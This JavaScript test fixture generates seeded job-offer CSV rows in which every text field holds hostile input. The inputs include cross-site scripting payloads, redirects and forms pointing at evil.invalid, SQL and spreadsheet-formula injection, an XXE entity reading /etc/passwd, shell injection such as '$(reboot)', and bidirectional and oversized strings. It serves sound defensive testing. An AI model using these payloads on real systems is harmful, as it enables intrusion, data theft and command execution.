// Offers whose every text wants to do harm: markup, scripts, entities that become markup, addresses that
// run, bidirectional controls, stacked accents, endless words, control characters, templates, formulas.
// The same seed gives the same offers.
import { csvLine, numberOf } from './fixtures.mjs';

export const SOURCE = 'hostile';
/** A search finds a lot: a page of results. */
export const LOT = 20;
/** What a text would make if it became markup, and what it would set if it ran. */
export const MARK = 'hostile-mark';
const RUN = 'window.__hostile=1';

/** Numbers from 0 to 1, always the same ones (mulberry32). */
function dice(seed) {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const markup = [
  `<${MARK}>x</${MARK}>`, `<script>${RUN}</script>`, `</script><script>${RUN}</script>`, `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x>`, `<iframe srcdoc="<script>parent.__hostile=1</script>">`,
  `"><${MARK} onmouseover="${RUN}">`, `' autofocus onfocus='${RUN}`, `--><${MARK}>`, `]]><${MARK}>`, `<!--<script>`, `<style>*{display:none}</style>`,
  `</title><${MARK}>`, `</textarea><${MARK}>`, `</style><${MARK}>`, `</template><${MARK}>`, `<base href="//evil.invalid/">`, `<meta http-equiv=refresh content="0;url=//evil.invalid">`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`, `<a href="javascript:${RUN}">x</a>`, `<form action=//evil.invalid><input name=q>`, `<x contenteditable onblur=${RUN}>`,
];
const escaped = (text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
const numeric = (text) => [...text].map((c) => `&#${c.codePointAt(0)};`).join('');
const others = [
  'javascript:window.__hostile=1', 'data:text/html,<script>window.__hostile=1</script>', 'JaVaScRiPt:window.__hostile=1//', 'vbscript:x',
  '\u202e\u202dretourné\u2066\u2067\u2068', '\u2067ouvert sans fin', '\u202aα\u202bβ\u202cγ', '\u200f\u200e\u061c', 'a\u0000b\u0001c\u0007d\u001be[31mrouge', '\ufeff\ufffe\uffff\u{1fffe}', '\u0085\u2028\u2029\u000b\u000c',
  `z${'\u0335\u0301\u0489\u0360'.repeat(60)}algo${'\u0300'.repeat(200)}`, 'ﷺ﷽𒐫'.repeat(12), 'W'.repeat(400), 'أبجد هوز حطي كلمن سعفص قرشت', 'שלום עולם 123 abc', '👩‍👩‍👧‍👦🏳️‍🌈🇫🇷'.repeat(9), '\u{e0061}\u{e007f}\u200b\u200c\u200d\u2060\u00ad',
  '{n} {title} {{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} %s %d %n', "'; DROP TABLE offers; --", "' OR 1=1 --", '=HYPERLINK("http://evil.invalid","x")', '+cmd|\'/C calc\'!A0', '@SUM(1+1)*cmd', '-2+3', '../../../../etc/passwd', '$(reboot) `id` ; true', '\\u003cscript\\u003e \\x3c \\74',
  '%3Cscript%3Ewindow.__hostile=1%3C/script%3E', '<![CDATA[ x ]]> <?xml version="1.0"?> <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', '\n\n\n\n\t\t\r\r\n', '"""", ;;;; \'\'\'\'', 'NaN', 'null', 'undefined', '-0', '1e309', 'constructor', '__proto__',
];
const endless = ['x'.repeat(100_000), 'Ω'.repeat(50_000), 'mot '.repeat(25_000), '<b>'.repeat(33_000), '&amp;lt;'.repeat(12_500), '\u0301'.repeat(100_000), '|'.repeat(100_000), '\n'.repeat(100_000)];

/** Columns that hold words; every other column is a code, a number or a day, and is refused when wrong. */
const WORDS = [
  'titre', 'employeur', 'employeur_texte', 'effectif', 'naf', 'agence', 'lieu', 'horaires', 'salaire_texte', 'diplome_domaine', 'permis',
  'langues', 'competences', 'savoir_etre', 'conditions', 'texte', 'licence', 'postuler_adresse', 'appellation',
];
const LISTS = ['permis', 'langues', 'competences', 'savoir_etre', 'conditions', 'lieu'];
const CODES = [
  'siret', 'rna', 'code_postal', 'commune_insee', 'latitude', 'longitude', 'teletravail', 'contrat', 'duree_mois', 'heures_semaine', 'temps', 'salaire_min',
  'salaire_periode', 'debutant', 'experience_mois', 'diplome', 'sans_voiture', 'postes', 'insertion', 'clause', 'debut', 'publie', 'cloture', 'url',
  'postuler_url', 'postuler_telephone', 'postuler_email', 'code_rome',
];

function makers(seed) {
  const roll = dice(seed);
  const one = (list) => list[Math.floor(roll() * list.length)];
  const harmful = () => {
    const which = roll();
    if (which < 0.3) return one(markup);
    // Entities are what a cleaner that only takes tags away lets through.
    if (which < 0.45) return escaped(one(markup));
    if (which < 0.5) return numeric(one(markup));
    if (which < 0.55) return escaped(escaped(one(markup)));
    if (which < 0.97) return one(others);
    return one(endless);
  };
  const word = () => Array.from({ length: 10 }, () => 'bcdfghjklmnpqrstvwz'[Math.floor(roll() * 19)]).join('');
  return { one, harmful, word, roll };
}

/** `count` offers in lots of twenty: each lot has a word that only its titles hold. */
export function hostileOffers(count, seed = 2026) {
  const { harmful, word, roll } = makers(seed);
  const lots = Array.from({ length: Math.ceil(count / LOT) }, word);
  const offers = Array.from({ length: count }, (_, i) => {
    const cells = WORDS.map((column) => {
      const parts = Array.from({ length: LISTS.includes(column) ? 1 + Math.floor(roll() * 4) : 1 }, harmful);
      return column === 'titre' ? `${lots[Math.floor(i / LOT)]} ${parts[0]}` : parts.join('|');
    });
    return { id: `h${i}`, cells: [...cells, 'https://exemple.fr/?a=%22%3E%3Cimg%3E&b=javascript:x&amp;lt;', 'essai@exemple.fr', 'K2204'] };
  });
  const columns = [...WORDS, 'url', 'postuler_email', 'code_rome'];
  const csv = csvLine(['reference', ...columns]) + offers.map(({ id, cells }) => csvLine([id, ...cells])).join('');
  return { csv, lots, ids: offers.map(({ id }) => id), numbers: offers.map(({ id }) => numberOf(SOURCE, id)) };
}

/** Harm in a column that holds a code: an offer for each column and text. */
export function hostileCodes(seed = 7) {
  const { harmful } = makers(seed);
  const rows = CODES.flatMap((column) => [...markup.slice(0, 6), ...others.slice(0, 12), harmful()].map((text) => [column, text]));
  return csvLine(['reference', 'titre', ...CODES])
    + rows.map(([column, text], i) => csvLine([`c${i}`, 'Code hostile', ...CODES.map((c) => (c === column ? text : ''))])).join('');
}
